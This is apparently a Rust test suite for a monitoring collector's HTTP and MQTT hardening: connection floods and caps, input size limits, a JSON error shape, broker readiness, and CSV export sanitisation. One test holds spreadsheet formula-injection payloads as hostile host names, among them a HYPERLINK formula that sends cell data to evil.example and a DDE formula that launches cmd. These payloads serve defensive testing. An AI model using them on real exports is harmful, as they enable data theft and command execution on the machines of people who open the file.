//! The HTTP side under abuse (issue 10): idle and slow-header floods, the connection cap, body
//! and input limits, the one JSON error shape, and `/readyz` against a real broker. Each test
//! starts its own collector (run open, on port 0).

use dozor_tests::*;
use rumqttc::{AsyncClient, MqttOptions, QoS};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// A collector whose HTTP listener has these limits.
fn collector(dir: &std::path::Path, header_timeout_secs: u64, max_connections: usize) -> Collector {
    collector_with(dir, header_timeout_secs, max_connections, 120)
}

fn collector_with(
    dir: &std::path::Path,
    header_timeout_secs: u64,
    max_connections: usize,
    request_timeout_secs: u64,
) -> Collector {
    let cfg = dir.join("collector.toml");
    std::fs::write(
        &cfg,
        format!(
            "[http]\nheader_read_timeout_secs = {header_timeout_secs}\nmax_connections = {max_connections}\nrequest_timeout_secs = {request_timeout_secs}\n"
        ),
    )
    .unwrap();
    Collector::start(
        &Broker::Embedded(0),
        dir,
        &["--config", cfg.to_str().unwrap()],
    )
}

/// Opens `n` connections that send nothing.
async fn idle(c: &Collector, n: usize) -> Vec<TcpStream> {
    let mut v = Vec::with_capacity(n);
    for _ in 0..n {
        v.push(TcpStream::connect(c.http).await.expect("connect"));
    }
    v
}

/// Opens `n` connections that start a request head and never finish it.
async fn slow_header(c: &Collector, n: usize) -> Vec<TcpStream> {
    let mut v = idle(c, n).await;
    for s in &mut v {
        s.write_all(b"GET /api/v1/hosts HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            .await
            .unwrap();
    }
    v
}

/// How many of `conns` the server has closed (read gives EOF or an error within `wait`).
async fn closed(conns: &mut [TcpStream], wait: Duration) -> usize {
    let mut n = 0;
    for s in conns {
        let mut buf = [0u8; 512];
        match tokio::time::timeout(wait, s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => n += 1,
            // A 408 or a 400 before closing also counts as closed.
            Ok(Ok(_)) => n += 1,
            Err(_) => {}
        }
    }
    n
}

/// One GET /healthz on a fresh connection; its latency.
async fn timed_get(c: &Collector, path: &str) -> (u16, Duration) {
    let t = Instant::now();
    let r = reqwest::Client::new()
        .get(format!("http://{}{path}", c.http))
        .timeout(Duration::from_secs(5))
        .send()
        .await
        .unwrap_or_else(|e| panic!("GET {path} under load: {e}"));
    (r.status().as_u16(), t.elapsed())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_and_slow_header_floods_do_not_stop_a_request_and_are_closed() {
    let dir = tempfile::tempdir().unwrap();
    let c = collector(dir.path(), 5, 4096);
    let t = Instant::now();
    let mut idle_conns = idle(&c, 1000).await;
    let mut slow_conns = slow_header(&c, 1000).await;
    eprintln!("2,000 connections opened in {:?}", t.elapsed());
    // A normal request gets through at once, on a fresh connection.
    let (status, took) = timed_get(&c, "/healthz").await;
    assert_eq!(status, 200);
    eprintln!("GET /healthz beside 1,000 idle + 1,000 slow-header connections: {took:?}");
    assert!(took < Duration::from_secs(2), "took {took:?}");
    let open = c.metric("dozor_http_connections_open").await;
    eprintln!("open connections: {open}");
    assert!(open >= 1000.0, "open {open}");
    // After the header-read timeout (5 s) every one of them is closed by the server.
    let t = Instant::now();
    let a = closed(&mut idle_conns, Duration::from_secs(8)).await;
    let b = closed(&mut slow_conns, Duration::from_secs(8)).await;
    eprintln!(
        "closed {a} idle and {b} slow-header connections within {:?}",
        t.elapsed()
    );
    assert_eq!((a, b), (1000, 1000));
    let open = wait_for(Duration::from_secs(5), || async {
        let v = c.metric("dozor_http_connections_open").await;
        (v <= 2.0).then_some(v)
    })
    .await;
    assert!(open.is_some(), "connections still open");
    let errors = c.metric("dozor_http_connection_errors_total").await;
    assert!(errors >= 2000.0, "errors counted: {errors}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connection_cap_closes_the_excess_and_counts_it() {
    let dir = tempfile::tempdir().unwrap();
    let c = collector(dir.path(), 2, 50);
    let mut held = idle(&c, 50).await;
    // Give the server time to accept the 50 before the excess arrives.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut excess = idle(&c, 30).await;
    // The excess is closed at accept, long before the header timeout.
    let n = closed(&mut excess, Duration::from_millis(1500)).await;
    assert_eq!(n, 30, "excess connections closed at once");
    // Once the held ones time out, a normal request gets in and the refusals are counted.
    let n = closed(&mut held, Duration::from_secs(5)).await;
    assert_eq!(n, 50);
    let (status, _) = timed_get(&c, "/healthz").await;
    assert_eq!(status, 200);
    let refused = c
        .metric("dozor_http_connections_total{outcome=\"refused\"}")
        .await;
    assert!(refused >= 30.0, "refused {refused}");
}

/// Resident memory of a process, KiB (Linux).
fn rss_kib(pid: u32) -> u64 {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    s.lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

async fn post_silence(c: &Collector, body: &serde_json::Value) -> (u16, serde_json::Value) {
    let r = c
        .client
        .post(format!("http://{}/api/v1/silences", c.http))
        .json(body)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or_default())
}

async fn silence_count(c: &Collector) -> usize {
    c.get("/api/v1/silences").await.as_array().unwrap().len()
}

/// Asserts the one error shape: `{"error": code, "message": Russian, ["field"]}`.
fn assert_error(j: &serde_json::Value, code: &str, field: Option<&str>) {
    assert_eq!(j["error"], code, "{j}");
    let m = j["message"]
        .as_str()
        .unwrap_or_else(|| panic!("no message: {j}"));
    assert!(
        m.chars()
            .any(|c| ('а'..='я').contains(&c.to_lowercase().next().unwrap())),
        "message not in Russian: {j}"
    );
    if let Some(f) = field {
        assert_eq!(j["field"], f, "{j}");
        assert!(
            m.starts_with(&format!("{f}: ")),
            "message does not name {f}: {j}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_silences_are_refused_and_memory_stays_flat() {
    let dir = tempfile::tempdir().unwrap();
    let c = collector(dir.path(), 10, 4096);
    let pid = c.proc.pid();
    let big = "1".repeat(60_000);
    let bidi = "ВОССТАНОВЛЕНО\u{202E}x";
    let cases: Vec<(serde_json::Value, &str)> = vec![
        (serde_json::json!({"mo": big, "duration_secs": 60}), "mo"),
        (
            serde_json::json!({"host": "pc/1", "duration_secs": 60}),
            "host",
        ),
        (
            serde_json::json!({"target": big, "duration_secs": 60}),
            "target",
        ),
        (
            serde_json::json!({"target": bidi, "duration_secs": 60}),
            "target",
        ),
        (
            serde_json::json!({"rule": "central_outage", "duration_secs": 60, "comment": big}),
            "comment",
        ),
        (
            serde_json::json!({"rule": "central_outage", "duration_secs": 60, "comment": "a\nb"}),
            "comment",
        ),
        (
            serde_json::json!({"rule": "central_outage", "duration_secs": 31_536_000}),
            "duration_secs",
        ),
        (
            serde_json::json!({"rule": "central_outage", "until": "2099-01-01T00:00:00Z"}),
            "until",
        ),
        (
            serde_json::json!({"rule": "no_such_rule", "duration_secs": 60}),
            "rule",
        ),
    ];
    // Warm up the allocator and the connection pool with one refused request of each kind.
    for (body, field) in &cases {
        let (status, j) = post_silence(&c, body).await;
        assert_eq!(status, 400, "{field}: {j}");
        assert_error(&j, "invalid_field", Some(field));
    }
    let before = rss_kib(pid);
    for _ in 0..10 {
        for (body, _) in &cases {
            assert_eq!(post_silence(&c, body).await.0, 400);
        }
    }
    // A body over the 64 KiB limit (the 1.9 MB `mo` of issue 10): 413, same shape.
    let huge = serde_json::json!({"mo": "1".repeat(1_900_000), "duration_secs": 60});
    let url = format!("http://{}/api/v1/silences", c.http);
    let mut answered = 0;
    // The server marks its 413 `Connection: close`, so the pool never reuses such a connection.
    let huge_client = c.client.clone();
    for _ in 0..20 {
        // The server answers after 64 KiB and closes without reading the rest; the client,
        // still writing, may see the reset before the answer: that attempt is refused too.
        if let Ok(r) = huge_client.post(&url).json(&huge).send().await {
            assert_eq!(r.status(), 413);
            assert_error(&r.json().await.unwrap(), "too_large", None);
            answered += 1;
        }
    }
    assert!(answered > 0, "no 413 seen");
    let after = rss_kib(pid);
    eprintln!(
        "RSS before {before} KiB, after {} oversized attempts {after} KiB",
        cases.len() * 10
    );
    assert_eq!(silence_count(&c).await, 0);
    assert!(
        after < before + 20 * 1024,
        "RSS grew from {before} to {after} KiB"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silences_are_bounded_in_number() {
    let dir = tempfile::tempdir().unwrap();
    let c = collector(dir.path(), 10, 4096);
    for i in 0..1000 {
        let (status, j) = post_silence(
            &c,
            &serde_json::json!({"host": format!("pc-{i}"), "duration_secs": 3600, "comment": "плановые работы"}),
        )
        .await;
        assert_eq!(status, 201, "silence {i}: {j}");
    }
    let (status, j) = post_silence(
        &c,
        &serde_json::json!({"host": "pc-x", "duration_secs": 3600}),
    )
    .await;
    assert_eq!(status, 400);
    assert_error(&j, "limit_reached", None);
    assert_eq!(silence_count(&c).await, 1000);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_error_has_one_json_shape_in_russian() {
    let dir = tempfile::tempdir().unwrap();
    let c = collector(dir.path(), 10, 4096);
    let get = |path: &str| {
        let url = format!("http://{}{path}", c.http);
        let client = c.client.clone();
        async move {
            let r = client.get(&url).send().await.unwrap();
            let status = r.status().as_u16();
            let ctype = r
                .headers()
                .get("content-type")
                .map(|v| v.to_str().unwrap().to_string())
                .unwrap_or_default();
            assert!(ctype.starts_with("application/json"), "{url}: {ctype}");
            (status, r.json::<serde_json::Value>().await.unwrap())
        }
    };
    for (path, status, code, field) in [
        (
            "/api/v1/hosts?state=bogus",
            400,
            "invalid_field",
            Some("state"),
        ),
        (
            "/api/v1/hosts?role=bogus",
            400,
            "invalid_field",
            Some("role"),
        ),
        ("/api/v1/hosts?bogus=1", 400, "bad_request", None),
        (
            "/api/v1/incidents?state=bogus",
            400,
            "invalid_field",
            Some("state"),
        ),
        ("/api/v1/incidents?limit=many", 400, "bad_request", None),
        ("/api/v1/incidents/abc", 400, "bad_request", None),
        ("/api/v1/incidents/12345", 404, "not_found", None),
        ("/api/v1/hosts/nobody", 404, "not_found", None),
        ("/api/v1/no-such-route", 404, "not_found", None),
        (
            "/api/v1/indicators?period=garbage",
            400,
            "invalid_field",
            Some("period"),
        ),
    ] {
        let (s, j) = get(path).await;
        assert_eq!(s, status, "{path}: {j}");
        assert_error(&j, code, field);
    }
    // Valid filters still answer 200.
    for path in ["/api/v1/hosts?state=online", "/api/v1/hosts?role=unknown"] {
        assert_eq!(get(path).await.0, 200, "{path}");
    }
    // Bad JSON, a wrong content type and a wrong method: the same shape.
    let url = format!("http://{}/api/v1/silences", c.http);
    for req in [
        c.client
            .post(&url)
            .header("content-type", "application/json")
            .body("{not json"),
        c.client.post(&url).body("{}"),
        c.client
            .post(&url)
            .header("content-type", "application/json")
            .body("{\"mo\": 5}"),
        c.client
            .post(&url)
            .header("content-type", "application/json")
            .body("{\"bogus\": 1}"),
    ] {
        let r = req.send().await.unwrap();
        assert!(r.status() == 400 || r.status() == 415, "{}", r.status());
        assert_error(&r.json().await.unwrap(), "bad_request", None);
    }
    let r = c.client.put(&url).send().await.unwrap();
    assert_eq!(r.status(), 405);
    assert_error(&r.json().await.unwrap(), "bad_request", None);
}

async fn readyz(c: &Collector) -> (u16, serde_json::Value) {
    let r = c
        .client
        .get(format!("http://{}/readyz", c.http))
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.json().await.unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn readyz_follows_the_broker() {
    let dir = tempfile::tempdir().unwrap();
    let mut m = Mosquitto::start();
    let port = m.port;
    let c = Collector::start(&Broker::External(m.url()), dir.path(), &[]);
    let ready = wait_for(Duration::from_secs(10), || async {
        (readyz(&c).await.0 == 200).then_some(())
    })
    .await;
    assert!(
        ready.is_some(),
        "not ready with the broker up: {}",
        readyz(&c).await.1
    );
    assert_eq!(c.metric("dozor_ready{check=\"broker\"}").await, 1.0);
    // `/healthz` only says the process answers.
    assert_eq!(c.get("/healthz").await["status"], "ok");

    m.proc.kill9();
    let t = Instant::now();
    let down = wait_for(Duration::from_secs(5), || async {
        let (s, j) = readyz(&c).await;
        (s == 503).then_some(j)
    })
    .await
    .expect("/readyz still 200 five seconds after the broker went away");
    eprintln!(
        "/readyz 503 {:?} after the broker was killed: {down}",
        t.elapsed()
    );
    assert_eq!(down["status"], "not_ready");
    let broker = down["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|ch| ch["check"] == "broker")
        .unwrap()
        .clone();
    assert_eq!(broker["ok"], false);
    assert_eq!(broker["code"], "broker_disconnected");
    assert!(broker["message"].as_str().unwrap().contains("брокер"));
    assert_eq!(c.metric("dozor_ready{check=\"broker\"}").await, 0.0);
    assert_eq!(c.get("/healthz").await["status"], "ok");

    let _m = Mosquitto::start_on(port);
    let t = Instant::now();
    let back = wait_for(Duration::from_secs(30), || async {
        (readyz(&c).await.0 == 200).then_some(())
    })
    .await;
    assert!(back.is_some(), "not ready again after the broker returned");
    eprintln!(
        "/readyz 200 again {:?} after the broker restarted",
        t.elapsed()
    );
    assert_eq!(c.metric("dozor_ready{check=\"broker\"}").await, 1.0);
}

const MO: &str = "1.2.643.5.1.13.13.12.2.27.77";

/// A `birth` with this site and hostname, as an agent sends it.
fn birth(host: &str, site: &str, hostname: &str) -> Vec<u8> {
    let now = unix_ms();
    serde_json::to_vec(&serde_json::json!({
        "v": 1, "mo": MO, "host": host, "inst": format!("i-{host}"), "seq": 1, "ts": now,
        "body": {
            "agent_version": "0.1.0", "role": "workstation", "site": site,
            "hostname": hostname, "os_name": "Astra Linux", "os_version": "1.7",
            "cpu_model": "Intel", "cpu_count": 4, "mem_total_bytes": 4000,
            "disks": [{"mount": "/", "fs": "ext4", "total_bytes": 100}],
            "boot_time": now / 1000 - 3600, "boot_id": "b-1", "seq_base": 1,
            "interval_secs": 30, "keepalive_secs": 30,
            "targets": [{"name": "mis", "category": "mis"}]
        }
    }))
    .unwrap()
}

async fn mqtt(port: u16) -> AsyncClient {
    let (c, mut el) = AsyncClient::new(MqttOptions::new("hostile-names", "127.0.0.1", port), 100);
    tokio::spawn(async move {
        loop {
            if el.poll().await.is_err() {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    });
    c
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_names_never_reach_a_person() {
    let dir = tempfile::tempdir().unwrap();
    let c = collector(dir.path(), 10, 4096);
    let client = mqtt(c.mqtt_port).await;
    let hostile = [
        (
            "pc-h1",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")",
            "=cmd|' /C calc'!A0",
        ),
        ("pc-h2", "+1+1", "@SUM(A1:A9)"),
        ("pc-h3", "-2+3", "-1"),
    ];
    for (host, site, hostname) in hostile {
        client
            .publish(
                format!("dozor/v1/{MO}/{host}/birth"),
                QoS::AtLeastOnce,
                false,
                birth(host, site, hostname),
            )
            .await
            .unwrap();
    }
    // Bidi controls and line separators are refused at decode: the host never appears.
    for (i, bad) in ["ВОССТАНОВЛЕНО\u{202E}", "ложная\u{2028}тревога"]
        .iter()
        .enumerate()
    {
        let host = format!("pc-b{i}");
        client
            .publish(
                format!("dozor/v1/{MO}/{host}/birth"),
                QoS::AtLeastOnce,
                false,
                birth(&host, bad, "PC"),
            )
            .await
            .unwrap();
    }
    let rejected = wait_for(Duration::from_secs(10), || async {
        let v = c
            .metric("dozor_messages_rejected_total{reason=\"bad_value\"}")
            .await;
        (v >= 2.0).then_some(v)
    })
    .await;
    assert!(rejected.is_some(), "bidi births not rejected as bad_value");

    // The availability CSV by host, read back with a CSV parser.
    let now = unix_ms();
    let path = format!(
        "/api/v1/availability?from={}&to={}&by=host&format=csv",
        now - 3_600_000,
        now + 60_000
    );
    let csv_text = wait_for(Duration::from_secs(15), || async {
        let t = c.text(&path).await;
        t.contains("pc-h3").then_some(t)
    })
    .await
    .unwrap_or_else(|| panic!("hostile hosts not in the availability CSV"));
    let body = csv_text.trim_start_matches('\u{feff}');
    let mut r = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(true)
        .flexible(true)
        .from_reader(body.as_bytes());
    let mut seen = 0;
    for rec in r.records() {
        let rec = rec.unwrap();
        // Columns: МО, host, name, role, site, then numbers.
        for f in rec.iter().take(5) {
            assert!(
                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "CSV cell {f:?}"
            );
        }
        if rec.get(1).is_some_and(|h| h.starts_with("pc-h")) {
            seen += 1;
            assert!(rec.get(2).unwrap().starts_with('\''), "{rec:?}");
            assert!(rec.get(4).unwrap().starts_with('\''), "{rec:?}");
        }
    }
    assert_eq!(seen, 3, "{csv_text}");
    // The births with bidi controls never got in.
    assert!(!csv_text.contains("pc-b"), "{csv_text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slowly_sent_body_gets_408_and_the_connection_closes() {
    let dir = tempfile::tempdir().unwrap();
    let c = collector_with(dir.path(), 10, 4096, 2);
    let mut s = TcpStream::connect(c.http).await.unwrap();
    s.write_all(
        // The enrollment route: open to agents, so the body is read without a login.
        b"POST /api/v1/enroll HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{",
    )
    .await
    .unwrap();
    let t = Instant::now();
    let mut got = Vec::new();
    tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut got))
        .await
        .expect("connection still open 5 s after a 2 s request timeout")
        .ok();
    let text = String::from_utf8_lossy(&got);
    eprintln!("slow body answered after {:?}", t.elapsed());
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
    assert!(text.contains("\"error\":\"request_timeout\""), "{text}");
    // A normal request still works.
    assert_eq!(timed_get(&c, "/healthz").await.0, 200);
}
